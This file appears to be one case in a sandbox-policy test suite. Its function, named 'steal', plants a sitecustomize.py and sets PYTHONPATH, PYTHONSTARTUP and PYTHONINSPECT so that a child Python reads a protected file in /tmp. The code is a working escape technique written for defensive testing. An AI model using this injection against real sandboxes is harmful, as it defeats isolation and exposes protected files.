# class: children
# rule: read_write_tmp
# policy: child-allowed.yaml
# success: a child Python whose start-up file and paths are the attacker's reads a file in /tmp
# proof: read
import os
import subprocess
import sys

from attack import FILE, attempt


@attempt
def steal():
    os.mkdir("early")
    with open("early/sitecustomize.py", "w") as opened:
        opened.write(
            "import os, sys\nsys.stdout.write(open(%r).read())\nsys.stdout.flush()\nos._exit(0)\n"
            % FILE
        )
    environment = {
        **os.environ,
        "PYTHONPATH": os.path.abspath("early"),
        "PYTHONSTARTUP": FILE,
        "PYTHONINSPECT": "1",
    }
    return subprocess.run(
        [sys.executable, "-c", "pass"], stdout=subprocess.PIPE, env=environment
    ).stdout
